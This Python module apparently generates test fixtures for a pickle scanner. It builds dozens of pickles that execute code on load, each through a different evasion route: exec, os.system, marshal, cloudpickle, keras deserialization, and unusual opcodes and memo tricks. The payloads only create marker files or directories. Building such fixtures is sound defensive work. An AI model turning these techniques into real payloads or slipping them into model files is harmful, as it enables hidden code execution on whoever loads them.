"""Pickles that do something as soon as they are loaded, one for each technique.

Each is a function from a path that does not exist yet to the bytes of a pickle which makes a file or directory
there, or changes :mod:`.victim`.
"""

from __future__ import annotations

import base64
import marshal
import pickle
from collections.abc import Callable
from typing import Any

from . import victim
from .opcodes import (
    BUILD,
    MARK,
    REDUCE,
    TUPLE,
    call,
    data,
    listed,
    mapping,
    name,
    new,
    new_ex,
    old_name,
    reduced,
    text,
    whole,
)

Technique = Callable[[str], bytes]
V = "hostile.victim"


def code(path: str) -> str:
    return f"open({path!r}, 'w').close()"


def made(path: str) -> bytes:
    """A map object whose first item is made by making the directory."""
    return call(name("builtins", "map"), name("os", "mkdir"), listed(text(path)))


def _compiled(path: str) -> bytes:
    return marshal.dumps(compile(code(path), "x", "exec"))


def _by_cloudpickle(path: str) -> bytes:
    """A function as cloudpickle writes it, and a call of it."""
    import cloudpickle

    def touch() -> None:
        open(path, "w").close()

    written: bytes = cloudpickle.dumps(touch, protocol=3)
    return call(written[2:-1])


def _by_keras(path: str) -> bytes:
    value = text(base64.encodebytes(_compiled(path)).decode())
    config = mapping(text("class_name"), text("__lambda__"), text("config"), mapping(text("value"), value))
    return call(call(name("keras.saving", "deserialize_keras_object"), config, b"N", b"\x89"))


#: Calls, by what is called: one for each kind of way to it.
CALLS: dict[str, Technique] = {
    "exec": lambda p: call(name("builtins", "exec"), text(code(p))),
    "os.system": lambda p: call(name("os", "system"), text(f"touch {p}")),
    "os.mkdir": lambda p: call(name("os", "mkdir"), text(p)),
    "pathlib.Path.mkdir": lambda p: call(name("pathlib", "Path.mkdir"), call(name("pathlib", "Path"), text(p))),
    "dotted-into-another-module": lambda p: call(name("pathlib", "os.mkdir"), text(p)),
    "getattr-of-an-import": lambda p: call(
        call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("mkdir")),
        text(p),
    ),
    "__globals__-of-a-function": lambda p: call(
        call(name("operator", "getitem"), name("os", "makedirs.__globals__"), text("mkdir")), text(p)
    ),
    "functools.partial": lambda p: call(call(name("functools", "partial"), name("os", "mkdir"), text(p))),
    "map": lambda p: call(name("builtins", "list"), made(p)),
    "copyreg.__newobj__": lambda p: call(name("copyreg", "__newobj__"), name("builtins", "tuple"), made(p)),
    "pickle.loads": lambda p: call(name("pickle", "loads"), data(whole(CALLS["exec"](p)))),
    "marshal": lambda p: call(
        call(name("types", "FunctionType"), call(name("marshal", "loads"), data(_compiled(p))), mapping())
    ),
    "tensorflow.io.write_file": lambda p: call(name("tensorflow", "io.write_file"), text(p), text("x")),
    "keras.deserialize": _by_keras,
    "cloudpickle": _by_cloudpickle,
}

#: The same call, by other opcodes and other protocols.
OPCODES: dict[str, Technique] = {
    **{f"protocol-{n}": lambda p, n=n: reduced(exec, (code(p),), n) for n in range(6)},
    "GLOBAL": lambda p: whole(call(old_name("os", "mkdir"), text(p))),
    "GLOBAL-without-header": lambda p: f"cos\nmkdir\n(V{p}\ntR.".encode(),
    "INST": lambda p: f"(V{p}\nios\nmkdir\n.".encode(),
    "OBJ": lambda p: whole(MARK + name("os", "mkdir") + text(p) + b"o"),
    "NEWOBJ": lambda p: whole(
        new(name("builtins", "tuple"), new(name("builtins", "map"), name("os", "mkdir"), listed(text(p))))
    ),
    "NEWOBJ_EX": lambda p: whole(
        new_ex(
            name("builtins", "frozenset"), new_ex(name("builtins", "map"), name("os", "mkdir"), listed(text(p)))
        )
    ),
    "BUILD-of-a-class-with-__setstate__": lambda p: whole(new(name(V, "Target")) + text(p) + BUILD),
    "BUILD-of-__dict__": lambda p: whole(name(V, "bare") + mapping(text("flag"), text(p)) + BUILD),
    "SETITEM": lambda p: whole(name(V, "TABLE") + text("a") + text(p) + b"s"),
    "SETITEMS": lambda p: whole(name(V, "TABLE") + MARK + text("a") + text(p) + b"u"),
    "APPEND": lambda p: whole(name(V, "FLAGS") + text(p) + b"a"),
    "APPENDS": lambda p: whole(name(V, "FLAGS") + MARK + text(p) + b"e"),
    "APPENDS-to-an-object": lambda p: whole(new(name(V, "Grabs")) + MARK + text(p) + b"e"),
    "ADDITEMS": lambda p: whole(name(V, "WORDS") + MARK + text(p) + b"\x90"),
    "PUT-and-GET": lambda p: f"cos\nmkdir\np7\n0(V{p}\ntp8\n0g7\ng8\nR.".encode(),
    "BINPUT-and-BINGET": lambda p: whole(
        name("os", "mkdir") + b"q\7" + b"0" + MARK + text(p) + TUPLE + b"q\1" + b"0" + b"h\7h\1" + REDUCE
    ),
    "MEMOIZE": lambda p: whole(name("os", "mkdir") + b"\x94" + b"0" + b"h\0" + MARK + text(p) + TUPLE + REDUCE),
    "DUP": lambda p: whole(MARK + text(p) + TUPLE + b"200" + call(name("os", "mkdir"), text(p)) + b"20"),
    "POP-hides-the-call": lambda p: whole(call(name("os", "mkdir"), text(p)) + b"0" + listed(b"K\1")),
    "EXT1": lambda p: whole(call(b"\x82\xf1", text(p))),
    "EXT2": lambda p: whole(call(b"\x83\xf2\xf2", text(p))),
    "EXT4": lambda p: whole(call(b"\x84\xf3\xf3\xf3\0", text(p))),
    "PERSID": lambda p: f"P{p}\n.".encode(),
    "BINPERSID": lambda p: whole(text(p) + b"Q"),
    "protocol-5-bytearray": lambda p: whole(
        call(name("builtins", "exec"), b"\x96" + len(code(p)).to_bytes(8, "little") + code(p).encode()), b"\x80\5"
    ),
    "more-behind-the-end": lambda p: whole(call(name("os", "mkdir"), text(p))) + b"junk" * 50,
    "import-alone": lambda p: whole(name("hostile.sideeffect", "NAME")),
    "callable-without-arguments": lambda p: whole(name(V, "fire") + b")" + REDUCE),
    "set-and-frozenset": lambda p: whole(b"(" + call(name(V, "fire")) + b"\x91"),
    "key-of-a-dict": lambda p: whole(mapping(call(name(V, "fire")), b"N")),
}


class _Fires:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return victim.fire, (self.path,)


def _objects(path: str) -> bytes:
    """An array of objects, as NumPy pickles it; what lies in it is loaded with it."""
    import numpy

    return pickle.dumps(numpy.array([_Fires(path)], dtype=object), protocol=4)


TECHNIQUES: dict[str, Technique] = {
    **{key: lambda p, make=make: whole(make(p)) for key, make in CALLS.items()},
    **OPCODES,
    "numpy-object-array": _objects,
}
